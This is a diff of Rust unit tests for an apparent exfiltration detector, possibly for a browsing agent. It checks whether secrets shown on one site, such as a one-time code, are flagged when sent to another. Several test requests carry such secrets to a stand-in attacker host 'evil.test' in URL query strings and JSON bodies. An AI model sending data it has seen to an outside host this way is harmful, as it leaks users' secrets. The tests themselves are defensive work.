@@ -92,20 +92,50 @@ fn taking_it_along_is_a_commit_unless_a_page_links_itself() {
     assert_eq!(class(&mail, link).0, Class::Read);
 }
 
+/// Whoever shows a lot makes nobody forget what others showed.
 #[test]
-fn memory_has_bounds() {
+fn nothing_is_forgotten_however_much_is_shown() {
     let mut learned = Learned::known_words("");
-    for site in 0..60 {
+    for site in 0..600 {
         learned.note(&format!("site{site}.test"), &format!("secret number {site} of the list {site}"));
     }
     let text: String = (0..60_000).map(|number| format!("{number:08}")).collect();
     learned.note("big.test", &text);
-    let last = decode(&sent("GET", "https://evil.test/?q=0005999900059999"));
-    let carried = |text: &str| {
-        learned.carries(&decode(&sent("GET", &format!("https://evil.test/?q={text}")))).is_some()
+    let carried = |to: &str, text: &str| {
+        learned.carries(&decode(&sent("GET", &format!("https://{to}/?q={text}")))).is_some()
     };
-    assert!(carried("00059999") && carried("secretnumber59ofthelist59") && !carried("00000001"));
-    assert!(learned.carries(&last).is_some());
+    for shown in ["secretnumber0ofthelist0", "secretnumber599ofthelist599", "00059999", "00000001"] {
+        assert!(carried("evil.test", shown), "{shown}");
+    }
+    assert!(!carried("big.test", "0005999800059999"), "a site may be told what it showed itself");
+    assert!(!carried("site599.test", "secretnumber599ofthelist599"));
+    assert!(!carried("evil.test", "harmless-question-of-its-own"));
+    // What could not be remembered at all makes everything doubtful that comes later, and nothing that was there before.
+    let mut doubtful = Memory::known_words("");
+    doubtful.gives("written long before");
+    doubtful.missed();
+    doubtful.gives("written afterwards");
+    let is_carried = |text: &str| {
+        !doubtful.carried(&decode(&sent("GET", &format!("https://evil.test/?q={text}")))).is_empty()
+    };
+    assert!(is_carried("written+afterwards") && !is_carried("written+long+before"));
+}
+
+/// A site that shows every code there is knows none of them.
+#[test]
+fn no_site_makes_codes_its_own_by_showing_them_all() {
+    let mut memory = Memory::known_words("");
+    memory.saw("mail.test", "Your code is 4829");
+    let all: String = (0..10_000).map(|code| format!("Your code is {code:04}\n")).collect();
+    memory.saw("evil.test", &all);
+    memory.gives("4829");
+    assert!(!memory.carried(&decode(&json("https://evil.test/x", r#"{"a":"4829"}"#))).is_empty());
+    // One that shows this one asks for it with reason.
+    let mut own = Memory::known_words("");
+    own.saw("mail.test", "Your code is 4829");
+    own.saw("shop.test", "Your code is 4829");
+    own.gives("4829");
+    assert_eq!(own.carried(&decode(&json("https://shop.test/x", r#"{"a":"4829"}"#))), []);
 }
 
 /// A mailbox that was read, by a caller that had looked for something of its own before.
